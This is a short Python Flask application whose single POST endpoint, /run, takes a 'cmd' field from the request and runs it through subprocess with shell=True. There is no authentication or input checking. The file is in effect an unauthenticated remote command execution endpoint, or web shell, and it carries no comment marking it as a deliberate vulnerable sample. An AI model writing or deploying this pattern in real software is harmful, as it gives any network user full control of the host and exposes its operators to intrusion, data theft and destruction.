import subprocess

from flask import Flask, request

app = Flask(__name__)

RUNNERS = {"shell": lambda cmd: subprocess.run(cmd, shell=True), "noop": lambda cmd: None}


@app.post("/run")
def run():
    RUNNERS["shell"](request.form.get("cmd", "true"))
    return "ok"
